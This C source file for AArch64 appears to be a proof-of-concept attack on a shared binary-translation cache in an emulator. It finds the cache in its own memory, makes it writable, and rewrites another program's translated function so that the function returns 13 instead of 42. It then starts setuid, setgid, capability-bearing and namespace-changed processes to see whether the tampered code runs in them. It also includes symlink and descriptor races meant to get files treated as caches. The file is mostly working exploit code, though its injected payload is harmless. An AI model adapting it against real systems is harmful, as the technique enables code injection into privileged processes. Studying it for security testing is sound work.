/*
 * A program that wants others to execute what it likes. It overwrites the cache of translations in its own memory, so that a
 * function of others that returns 42 is translated to one that returns 13; and starts such others, in each way in which a
 * process can come to have other rights or another place. Each says what the function returned. It is for AArch64.
 *
 *   translations-hostile attack SETUID SETGID CAPABLE   copies of this program, with those bits and with a file's capabilities
 *   translations-hostile race                           tries to have a file marked as a cache while nobody looks
 *   translations-hostile number                         tries to have the number of the cache for a file of its own, meanwhile
 *   translations-hostile victim WHAT                    one of the others
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096
#define FD 1000
#define UNIT 16
#define WORDS 8
#define SIZE (WORDS * 4)

static const char *self;

/* Of the same length, and at the same place of a page, as both have to be. */
static const uint32_t theirs[WORDS] = {
    0xd28acf01, 0xd2824682, 0xd2935783, 0xd503201f, 0x52800540 /* mov w0, #42 */, 0xd503201f, 0xd503201f, 0xd65f03c0
};
static const uint32_t mine[WORDS] = {
    0xd28acf01, 0xd2824682, 0xd2935783, 0xd503201f, 0x528001a0 /* mov w0, #13 */, 0xd503201f, 0xd503201f, 0xd65f03c0
};

static int call(const uint32_t *function)
{
    int fd = memfd_create("code", 0);
    void *code;

    if (pwrite(fd, function, SIZE, 0) != SIZE || ftruncate(fd, PAGE)) {
        exit(2);
    }
    code = mmap(NULL, PAGE, PROT_READ | PROT_EXEC, MAP_SHARED, fd, 0);
    close(fd);
    return ((int (*)(void))code)();
}

/* Where the cache is in the memory of this process. /proc/self shows what is the program's; a child sees all. */
static char *find_cache(size_t *writable, size_t *size)
{
    unsigned long from, to, at[3] = { 0 };
    int pipes[2], status;
    char line[300], name[40], rights[5];
    FILE *maps;

    if (pipe(pipes)) {
        exit(2);
    }
    if (fork() == 0) {
        snprintf(name, sizeof(name), "/proc/%d/maps", getppid());
        maps = fopen(name, "r");
        while (maps && fgets(line, sizeof(line), maps)) {
            if (strstr(line, "qemu-translations") && sscanf(line, "%lx-%lx %4s", &from, &to, rights) == 3) {
                at[0] = at[0] ? at[0] : from;
                at[1] = rights[1] == 'w' ? to : at[1];
                at[2] = to;
            }
        }
        _exit(write(pipes[1], at, sizeof(at)) != sizeof(at));
    }
    wait(&status);
    if (read(pipes[0], at, sizeof(at)) != sizeof(at) || !at[0] || !at[1]) {
        puts("no cache");
        exit(3);
    }
    *writable = at[1] - at[0];
    *size = at[2] - at[0];
    return (char *)at[0];
}

/* The place of the table that leads to the entry with this code. */
static uint64_t *find(char *cache, size_t writable, size_t size, const uint32_t *function, char **code)
{
    uint64_t *best = NULL;
    size_t at;

    *code = memmem(cache + writable, size - writable, function, SIZE);
    if (!*code) {
        puts("no entry");
        exit(4);
    }
    at = *code - cache;
    for (uint64_t *place = (uint64_t *)cache + 8; place < (uint64_t *)(cache + writable); place++) {
        size_t entry = (*place & 0xffffffff) * UNIT;

        if (*place && entry < at && (!best || entry > (*best & 0xffffffff) * UNIT)) {
            best = place;
        }
    }
    return best;
}

static void victim(const char *what)
{
    printf("%s: %d, user %d %d, group %d %d\n", what, call(theirs), getuid(), geteuid(), getgid(), getegid());
    fflush(stdout);
}

/* Starts one, after that has been done in the process. */
static void start(const char *program, const char *what, int (*before)(void))
{
    pid_t child = fork();
    int status;

    if (child == 0) {
        if (before && before() != 0) {
            printf("%s: %s\n", what, strerror(errno));
            fflush(stdout);
            _exit(1);
        }
        execl(program, program, "victim", what, NULL);
        _exit(1);
    }
    waitpid(child, &status, 0);
    if (status) {
        printf("%s: status %x\n", what, status);
    }
}

static int other_user(void)
{
    return setresuid(getuid() + 1, getuid() + 1, getuid() + 1);
}

static int other_group(void)
{
    return setresgid(getgid() + 1, getgid() + 1, getgid() + 1);
}

static int other_root(void)
{
    return chroot("/");
}

static int other_mounts(void)
{
    return unshare(CLONE_NEWNS);
}

static int other_users(void)
{
    return unshare(CLONE_NEWUSER);
}

static int no_privileges(void)
{
    return prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
}

static int attack(char **programs)
{
    size_t writable, size;
    char *cache, *their_code, *my_code;
    uint64_t *their_place, *my_place;

    /* Both are to be there. */
    if (call(theirs) != 42 || call(mine) != 13) {
        return 2;
    }
    cache = find_cache(&writable, &size);
    their_place = find(cache, writable, size, theirs, &their_code);
    my_place = find(cache, writable, size, mine, &my_code);
    if (mprotect(cache + writable, size - writable, PROT_READ | PROT_WRITE)) {
        perror("mprotect");
        return 5;
    }
    /* My translation, for their code, where theirs is looked for. */
    memcpy(my_code, theirs, SIZE);
    *their_place = (*their_place & ~0xffffffffull) | (*my_place & 0xffffffff);
    start(self, "same rights", NULL);
    start(programs[0], "setuid", NULL);
    start(programs[1], "setgid", NULL);
    start(self, "no new privileges", no_privileges);
    start(self, "another user namespace", other_users);
    start(programs[2], "capabilities", NULL);
    if (getuid() == 0) {
        start(self, "another user", other_user);
        start(self, "another group", other_group);
        start(self, "another root", other_root);
        start(self, "other mounts", other_mounts);
    }
    return 0;
}

static int sealed(void)
{
    int fd = memfd_create("mine", MFD_ALLOW_SEALING);

    if (ftruncate(fd, 48 << 20) || fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_SEAL)) {
        exit(2);
    }
    return fd;
}

static char changing[60], plain[60], link_to_file[60], link_to_plain[60];
static int turning[3];
static volatile int stop;

/* A name that leads to a file without a name, and to one that has one, by turns. */
static void *change(void *unused)
{
    while (!stop) {
        symlink(link_to_file, link_to_plain);
        rename(link_to_plain, changing);
        symlink(plain, link_to_plain);
        rename(link_to_plain, changing);
    }
    return unused;
}

/* The same of a descriptor. */
static void *turn(void *unused)
{
    while (!stop) {
        dup3(turning[0], turning[2], 0);
        dup3(turning[1], turning[2], 0);
    }
    return unused;
}

static int race(void)
{
    int fd = sealed(), tried, gone = 0;
    pthread_t threads[2];
    struct stat st;

    snprintf(link_to_file, sizeof(link_to_file), "/proc/%d/fd/%d", getpid(), fd);
    snprintf(plain, sizeof(plain), "/tmp/hostile-%d", getpid());
    snprintf(changing, sizeof(changing), "/tmp/hostile-%d-changing", getpid());
    snprintf(link_to_plain, sizeof(link_to_plain), "/tmp/hostile-%d-link", getpid());
    turning[0] = fd;
    turning[1] = open(plain, O_CREAT | O_RDWR, 0600);
    turning[2] = dup(fd);
    symlink(plain, changing);
    pthread_create(&threads[0], NULL, change, NULL);
    pthread_create(&threads[1], NULL, turn, NULL);
    for (tried = 0; tried < 20000; tried++) {
        gone += (fchmodat(AT_FDCWD, changing, 01000, 0) == 0) & (fchmod(turning[2], 01000) == 0);
        fstat(fd, &st);
        if ((st.st_mode & 07777) == 01000) {
            break;
        }
    }
    stop = 1;
    pthread_join(threads[0], NULL);
    pthread_join(threads[1], NULL);
    unlink(plain);
    unlink(changing);
    unlink(link_to_plain);
    printf("%s, %s\n", tried < 20000 ? "marked" : "not marked", gone ? "and a file with a name was" : "nothing else either");
    return tried < 20000;
}

static void *take(void *number)
{
    int fd = sealed();

    while (!stop) {
        if (dup3(fd, FD, 0) == FD || fcntl(fd, F_DUPFD, FD) == FD) {
            puts("taken");
            exit(1);
        }
        close(FD + 1);
        close(FD);
    }
    return number;
}

/* Its children have the cache still: they find, and add to, what this one does. */
static int number(void)
{
    pthread_t thread;

    pthread_create(&thread, NULL, take, NULL);
    for (int i = 0; i < 50; i++) {
        start(self, "meanwhile", NULL);
    }
    stop = 1;
    pthread_join(thread, NULL);
    return 0;
}

int main(int argc, char **argv)
{
    self = argv[0];
    if (argc == 5 && !strcmp(argv[1], "attack")) return attack(argv + 2);
    if (argc == 2 && !strcmp(argv[1], "race")) return race();
    if (argc == 2 && !strcmp(argv[1], "number")) return number();
    if (argc == 3 && !strcmp(argv[1], "victim")) {
        victim(argv[2]);
        return 0;
    }
    return 2;
}
